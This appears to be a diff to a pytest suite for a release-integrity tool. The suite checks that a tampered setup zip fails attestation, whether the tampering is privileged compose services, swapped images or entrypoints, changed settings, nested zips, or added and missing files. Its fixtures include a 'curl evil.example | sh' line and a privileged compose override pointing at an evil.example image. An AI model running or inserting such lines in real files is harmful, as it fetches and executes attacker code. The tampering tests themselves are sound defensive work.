@@ -6,19 +6,20 @@ import io
 import zipfile
 from collections.abc import Callable
 from dataclasses import replace
+from datetime import timedelta
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from jenkins_release.errors import IntegrityError
-from jenkins_release.records.attestation import PUBLICATION, REFRESH
+from jenkins_release.records.attestation import PUBLICATION, REFRESH, SETUP
 from jenkins_release.records.setup import RECORD, SUMS, SetupBundle, setup_checksum_lines
 from jenkins_release.records.setup_zip import MAX_ZIP_BYTES, Member, write_zip
 from jenkins_release.rules.consumer import examine
-from jenkins_release.rules.setup_files import file_records
-from jenkins_release.rules.setup_proof import SetupProof, first_proof, prove_setup_zip
-from tests.fixtures.setup_zip import SCRIPTS, setup_files, setup_zip
+from jenkins_release.rules.setup_files import file_records, setup_claim
+from jenkins_release.rules.setup_proof import NOT_ATTESTED, SetupProof, first_proof, prove_setup_zip
+from tests.fixtures.setup_zip import SCRIPTS, TEMPLATES, setup_files, setup_zip
 from tests.fixtures.story import NOW, TRUSTED, Story, candidate
 
 GOOD = setup_zip()
@@ -109,10 +110,84 @@ def test_a_forger_who_mends_the_hashes_is_found_too():
     assert any("other images than the promotion" in reason for reason in refused(forged(MEMBERS, other)))
 
 
+PRIVILEGED = b"services: {rms: {privileged: true, image: evil.example/rms, entrypoint: [/bin/evil]}}\n"
+
+
+@pytest.mark.parametrize(
+    ("path", "edit"),
+    [
+        ("docker-compose.yml", lambda data: data.replace(b"  rms:\n", b"  rms:\n    privileged: true\n")),
+        ("docker-compose.yml", lambda data: data.replace(b"  rms:\n", b"  rms:\n    entrypoint: [evil]\n")),
+        ("docker-compose.override.yml", lambda _: PRIVILEGED),
+        ("settings.txt", lambda data: data.replace(b"|generate|", b"|correct-horse-battery|")),
+        ("config/acme.conf.in", lambda data: data + b"admin=evil\n"),
+        ("release.env", lambda data: data.replace(b"layers.example.com", b"layers.evil.example")),
+        ("README.md", lambda data: data + b"curl evil.example | sh\n"),
+    ],
+    ids=lambda value: value if isinstance(value, str) else "",
+)
+def test_a_template_that_decides_what_runs_is_attested(path: str, edit: Callable[[bytes], bytes]):
+    """Privileged, another image in the override, another entry point, settings: the hashes mended."""
+    assert changed(path, edit)[path] != MEMBERS[path]
+    assert any(
+        reason.startswith(f"{path} is not the file that") for reason in refused(forged(changed(path, edit)))
+    )
+
+
+def test_every_file_but_those_about_files_is_attested():
+    """Whichever it is, and one that was put in or left out too; of any version of the program."""
+    bundle = BUNDLE.model_copy(update={"writer": "jenkins-release/0.0.1"})
+    story = Story().built().tested().promoted().summary()
+    _, members = setup_files(story, writer=bundle.writer)
+    assert prove(forged(members, bundle)).attested.key.name == "promotion"
+    for path in {*members} - {RECORD, SUMS, "attestations.jsonl"}:
+        other = members | {path: replace(members[path], data=members[path].data + b"\n")}
+        assert any(r.startswith(f"{path} is not the file that") for r in refused(forged(other, bundle))), path
+        less = {name: member for name, member in members.items() if name != path}
+        assert any(r.startswith(f"{path} is missing, which") for r in refused(forged(less, bundle))), path
+    for more in ("compose.yaml", "lib/more.sh", "candidate.json", "config/x.in"):
+        reasons = refused(forged(members | {more: Member(b"")}, bundle))
+        assert any(r.startswith(f"{more} is in no attestation") for r in reasons), more
+
+
+def test_only_the_last_attestation_of_the_promotion_key_about_a_setup_zip_counts():
+    """None, that of another key, of another zip of the release, or of another program."""
+    bare = Story().built().tested().promoted().summary()
+    _, members = setup_files(bare, attest=False)
+    assert any(NOT_ATTESTED in reason for reason in refused(forged(members)))
+    for role in ("qa", "stranger"):
+        story = Story().built().tested().promoted()
+        _, members = setup_files(story, role=role)
+        assert refused(forged(members)), role
+    story = Story().built().tested().promoted().summary()
+    first = setup_files(story)[1]
+    second = setup_files(story, {**TEMPLATES, "notes.md": b"other"})[1]
+    assert (
+        prove(forged(first)).attested.statement.sequence < prove(forged(second)).attested.statement.sequence
+    )
+    mixed = first | {"attestations.jsonl": second["attestations.jsonl"]}
+    assert any(r.startswith("README.md is not the file that") for r in refused(forged(mixed)))
+    written = BUNDLE.model_copy(update={"writer": "jenkins-release/9"})
+    assert any("writer" in reason for reason in refused(forged(MEMBERS, written)))
+    later = BUNDLE.model_copy(update={"promoted_at": BUNDLE.promoted_at + timedelta(days=1)})
+    assert any("promoted at" in reason for reason in refused(forged(MEMBERS, later)))
+
+
+def test_a_zip_inside_a_zip_is_not_read():
+    """A second central directory, or the same names twice: programs differ in which they take."""
+    refused(GOOD + setup_zip(templates={**TEMPLATES, "docker-compose.override.yml": PRIVILEGED}))
+    refused(setup_zip(templates={**TEMPLATES, "docker-compose.override.yml": PRIVILEGED}) + GOOD)
+    out = io.BytesIO(GOOD)
+    with zipfile.ZipFile(out, "a") as archive:
+        archive.comment = b"x"
+    refused(out.getvalue())
+
+
 def test_a_zip_of_another_version_says_that_scripts_were_not_compared():
     """Its scripts are others, rightly."""
     older = BUNDLE.model_copy(update={"writer": "jenkins-release/0.0.1"})
-    proof = prove(forged(changed("setup.sh", lambda data: data + b"#\n"), older))
+    scripts = SCRIPTS | {"setup.sh": Member(SCRIPTS["setup.sh"].data + b"#\n", executable=True)}
+    proof = prove(forged(setup_files(writer=older.writer, scripts=scripts)[1], older))
     assert not proof.scripts_compared
 
 
@@ -136,20 +211,30 @@ def test_only_a_release_in_force_by_trusted_keys_is_proven():
 
 def test_each_build_takes_the_same_attestations_until_something_counts_against_them():
     """A publication and a later summary change nothing; a verdict and another promotion do."""
+    claim = setup_claim(BUNDLE.folder, BUNDLE.writer, MEMBERS)
 
     def first(story: Story) -> bytes | None:
         release = examine(story.manifest, story.envelopes, TRUSTED, NOW)
-        return first_proof(story.manifest, story.envelopes, release, TRUSTED, NOW)
+        return first_proof(story.manifest, story.envelopes, release, claim, TRUSTED, NOW)
+
+    def made() -> Story:
+        return (
+            Story().built().tested().promoted().sign(SETUP, claim.predicate, "promotion", {}, claim.subjects)
+        )
 
     assert first(Story().built().tested().promoted()) is None
-    story = Story().built().tested().promoted().summary()
+    assert first(Story().built().tested().promoted().summary()) is None
+    assert first(made()) is None
+    story = made().summary()
     before = story.bundle()
     assert first(story) == before
     story.sign(PUBLICATION, {}, "promotion")
     assert first(story) == before
     story.sign(REFRESH, {}, "promotion")
     assert first(story) == before
-    story = Story().built().tested().promoted().summary().tested()
+    story.sign(SETUP, claim.predicate, "promotion", {}, {"setup.sh": "0" * 64})
+    assert first(story.summary()) == before
+    story = made().summary().tested()
     assert first(story) is None
     assert first(story.summary()) == story.bundle()
     assert first(story.promoted()) is None
